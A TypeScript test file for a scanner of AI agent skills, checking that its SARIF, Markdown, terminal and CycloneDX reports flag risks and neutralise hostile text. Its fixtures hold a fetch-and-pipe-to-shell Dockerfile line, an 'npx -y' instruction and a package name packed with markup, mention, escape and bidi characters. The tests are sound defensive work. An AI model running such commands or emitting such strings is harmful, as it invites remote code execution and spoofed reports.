import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import Ajv from 'ajv'
import AjvDraft04 from 'ajv-draft-04'
import addFormats from 'ajv-formats'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Extras } from './Extras.ts'
import { exitCodeWith } from './exitCodeWith.ts'
import { columnsOf, pathOf, showLine } from './Line.ts'
import { renderReport } from './renderReport.ts'
import { purlOf, toCycloneDx } from './toCycloneDx.ts'
import { toMarkdown } from './toMarkdown.ts'
import { toSarif } from './toSarif.ts'
import type { AdapterReport } from '../adapters/AdapterReport.ts'
import { RULES } from '../rules/index.ts'
import { withoutTimes, type ScanReport } from '../ScanReport.ts'
import { scan } from '../scan.ts'
import type { SupplyFacts } from '../supply/SupplyFacts.ts'

const require = createRequire(import.meta.url)
const root = mkdtempSync(join(tmpdir(), 'countersign-output-'))
const adapters: AdapterReport[] = [
  {
    adapter: 'skillscan',
    skill: 'skills/weather',
    status: 'not-run',
    version: null,
    because: '`skillscan` is not installed.',
    findings: [],
  },
  {
    adapter: 'skill-audit',
    skill: 'skills/weather',
    status: 'fail',
    version: '0.1.0',
    because: null,
    findings: [
      {
        rule: 'prompt-x',
        severity: 'high',
        file: 'SKILL.md',
        line: 7,
        message: 'Attempts | to <b>override</b>',
        fingerprint: '0'.repeat(32),
      },
    ],
  },
]
const extras: Extras = { adapters, osv: null }
const supplies = new Map<string, SupplyFacts>()
let report: ScanReport

beforeAll(() => {
  // What a hostile skill would try on a reader: escape sequences, bidi, markup, a mention, a bar, a backtick.
  const files: Record<string, string> = {
    'skills/weather/SKILL.md':
      '---\nname: weather\ndescription: Says what the weather is.\n---\n\n# Weather\n\nRun `npx -y some-tool@latest`.\n',
    'skills/weather/package.json':
      '{\n  "dependencies": {\n    "crossenv": "1.0.0",\n    "evil|`x` @team <img src=x> \\u001b[31m\\u202e": "*"\n  }\n}\n',
    'skills/weather/my files/Dockerfile': 'FROM node:latest\nRUN curl -fsSL https://get.invalid/i.sh | sh\n',
    'skills/broken/SKILL.md': '---\nname: broken\ndescription: Has a manifest that is none.\n---\n\nHello.\n',
    'skills/broken/package.json': '{ "dependencies": ',
  }
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true })
    writeFileSync(join(root, name), text)
  }
  report = withoutTimes(
    scan({ paths: [root], base: root, nowMs: 0, onSupply: (path, supply) => supplies.set(path, supply) }),
  )
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

const lineOf = (skill: string, file: string, line: number): string | null => {
  try {
    return readFileSync(join(root, pathOf(skill, file)), 'utf8').split('\n')[line - 1] ?? null
  } catch {
    return null
  }
}

describe('SARIF', () => {
  const sarif = () => toSarif(report, { rules: RULES, extras, lineOf, version: '0.1.0' })

  test('is valid against the schema of SARIF 2.1.0', () => {
    const schema = JSON.parse(
      readFileSync(
        join(dirname(require.resolve('@microsoft/jest-sarif/package.json')), 'lib/schemas/sarif-2.1.0-rtm.5.json'),
        'utf8',
      ),
    ) as object
    const ajv = new AjvDraft04.default({ strict: false, allErrors: true, unicodeRegExp: false })
    addFormats.default(ajv as unknown as Ajv.default)
    const validate = ajv.compile(schema)
    validate(JSON.parse(JSON.stringify(sarif())))
    expect(validate.errors).toBeNull()
    // The validator does say no.
    expect(validate({ ...sarif(), runs: [{ results: [{ level: 'grave' }] }] })).toBe(false)
  })

  test('one run for each analyser, each with its rules, its taxonomy and what was not analysed', () => {
    const runs = sarif().runs
    expect(runs.map((run) => run.automationDetails?.id)).toEqual([
      'countersign/behavior/',
      'countersign/intent/',
      'countersign/structure/',
      'countersign/supply/',
      'countersign/adapter/skillscan/',
      'countersign/adapter/skill-audit/',
    ])
    const supply = runs[3]
    expect(supply?.invocations?.[0]?.executionSuccessful).toBe(false)
    expect(supply?.taxonomies?.[0]?.taxa?.length).toBe(10)
    const ids = supply?.tool.driver.rules?.map((rule) => rule.id) ?? []
    expect(ids).toEqual(
      RULES.filter((rule) => rule.check === 'supply')
        .map((rule) => rule.name)
        .toSorted(),
    )
    for (const result of supply?.results ?? []) {
      expect(ids[result.ruleIndex ?? -1]).toBe(result.ruleId)
      expect(result.partialFingerprints?.['countersign/v1']).toMatch(/^[0-9a-f]{32}$/)
    }
    const docker = supply?.results?.find((each) => each.ruleId === 'container-remote-code')?.locations?.[0]
      ?.physicalLocation
    expect(docker?.artifactLocation?.uri).toBe('skills/weather/my%20files/Dockerfile')
    expect(docker?.region).toMatchObject({ startLine: 2, startColumn: 1, endColumn: 45 })
  })
})

test('the terminal shows the offending line, underlined, and how to fix it; nothing in it can move the cursor', () => {
  const text = renderReport(report, { extras, lineOf, width: 100 })
  const at = text.indexOf('container-remote-code')
  expect(text.slice(at - 11, text.indexOf('fingerprint', at))).toMatchInlineSnapshot(`
    "  high     container-remote-code  AST02/2.2 Supply Chain Compromise
      --> skills/weather/my files/Dockerfile:2
      2 | RUN curl -fsSL https://get.invalid/i.sh | sh
        | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        A script is fetched and run while the image is built.
        Fix: \`ADD --checksum=sha256:…\`, or download, compare the hash, then run.
        "
  `)
  // eslint-disable-next-line no-control-regex
  expect(/[\u0000-\u0009\u000b-\u001f\u007f\u202a-\u202e]/.test(text)).toBe(false)
  expect(text).toContain('vulnerable versions: not checked, no snapshot')
  expect(text).toContain('not run  skillscan')
  expect(text).toContain('INCOMPLETE  broken')
})

test('promise: text of a skill cannot break out of a Markdown table, link, mention or embed', () => {
  const markdown = toMarkdown(report, { extras })
  const rows = markdown.split('\n').filter((line) => line.includes('evil'))
  expect(rows.length).toBeGreaterThan(0)
  for (const row of rows) {
    // Every cell is in the head's number of columns, and what is active stands in code.
    expect(row.replaceAll('\\|', '').split('|').length).toBe(7)
    const outside = row.replace(/`[^`]*`/g, '')
    expect(outside).not.toMatch(/<img|(?<!\\)@team|\]\(/)
  }
  expect(markdown).toContain('Attempts \\| to &lt;b\\>override&lt;/b\\>')
  expect(markdown).toContain('| skillscan | skills/weather | not run |')
  const [one] = report.skills
  const many = { ...report, skills: Array.from({ length: 2_000 }, () => one as (typeof report.skills)[number]) }
  const cut = toMarkdown(many, { extras })
  expect(cut.length).toBeLessThan(65_536)
  expect(cut).toContain('Cut here')
  expect(cut).toContain('Gate: high.')
})

describe('CycloneDX', () => {
  test('is valid against the schema of CycloneDX 1.6, and the same every time', () => {
    const text = toCycloneDx(report, { supplies, version: '0.1.0' })
    expect(toCycloneDx(report, { supplies, version: '0.1.0' })).toBe(text)
    const base = join(dirname(require.resolve('@cyclonedx/cyclonedx-library/package.json')), 'res/schema')
    const read = (name: string): object => JSON.parse(readFileSync(join(base, name), 'utf8')) as object
    const ajv = new Ajv.default({ strict: false, validateFormats: false, allErrors: true })
    ajv.addSchema(read('spdx.SNAPSHOT.schema.json'), 'http://cyclonedx.org/schema/spdx.SNAPSHOT.schema.json')
    ajv.addSchema(read('jsf-0.82.SNAPSHOT.schema.json'), 'http://cyclonedx.org/schema/jsf-0.82.SNAPSHOT.schema.json')
    const validate = ajv.compile(read('bom-1.6.SNAPSHOT.schema.json'))
    const bom = JSON.parse(text) as { components: { purl?: string; name: string }[] }
    validate(bom)
    expect(validate.errors).toBeNull()
    expect(bom.components.map((each) => each.purl ?? each.name)).toEqual(
      expect.arrayContaining(['weather', 'broken', 'pkg:npm/crossenv@1.0.0', 'pkg:npm/some-tool']),
    )
  })

  test('package URLs', () => {
    const of = (over: object): string | null =>
      purlOf({
        ecosystem: 'npm',
        name: 'a',
        spec: '',
        version: null,
        pin: 'exact',
        source: { kind: 'registry' },
        file: 'x',
        line: 1,
        evidence: '',
        via: 'manifest',
        isDevelopment: false,
        ...over,
      })
    const hash = `sha256:${'a'.repeat(64)}`
    expect([
      of({ name: '@scope/a', version: '1.0.0' }),
      of({ ecosystem: 'PyPI', name: 'some-client', version: '2.0' }),
      of({ ecosystem: 'docker', name: 'ghcr.io/someone/base', spec: `1@${hash}`, version: '1' }),
      of({ ecosystem: 'Go', name: 'example.invalid/x/y', version: 'v1.0.0' }),
      of({ source: { kind: 'git', url: 'git+https://git.invalid/x', isCommit: false } }),
    ]).toMatchInlineSnapshot(`
      [
        "pkg:npm/%40scope/a@1.0.0",
        "pkg:pypi/some-client@2.0",
        "pkg:docker/someone/base@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa?repository_url=ghcr.io",
        "pkg:golang/example.invalid/x/y@v1.0.0",
        null,
      ]
    `)
  })
})

test('what stands beside the report only makes the exit code graver', () => {
  const clean: ScanReport = { ...report, skills: [] }
  const only = (...statuses: AdapterReport['status'][]): Extras => ({
    osv: null,
    adapters: statuses.map((status) => ({ ...(adapters[0] as AdapterReport), status })),
  })
  const codes = [only(), only('not-run', 'pass'), only('failed', 'pass'), only('failed', 'fail')].map((each) =>
    exitCodeWith(clean, each, { isOsvMissing: false }),
  )
  expect(codes).toEqual([0, 0, 9, 1])
  expect(exitCodeWith(clean, only('pass'), { isOsvMissing: true })).toBe(9)
  expect(exitCodeWith(report, only('pass'), { isOsvMissing: false })).toBe(1)
})

test('lines are cut around what they are shown for, and paths do not leave the tree by accident', () => {
  const line = `${'x'.repeat(500)} curl bad ${'y'.repeat(500)}`
  const { text, mark } = showLine(line, 'curl bad')
  expect(text.length).toBeLessThanOrEqual(162)
  expect(text.slice(mark?.start, mark?.end)).toBe('curl bad')
  expect(columnsOf(line, 'curl bad')).toEqual({ startColumn: 502, endColumn: 510 })
  expect(columnsOf('one', 'two')).toBeNull()
  expect([pathOf('a/b', 'c.md'), pathOf('a/b', '../plugin.json'), pathOf('.', 'c.md'), pathOf('..', 'c.md')]).toEqual([
    'a/b/c.md',
    'a/plugin.json',
    'c.md',
    '../c.md',
  ])
})
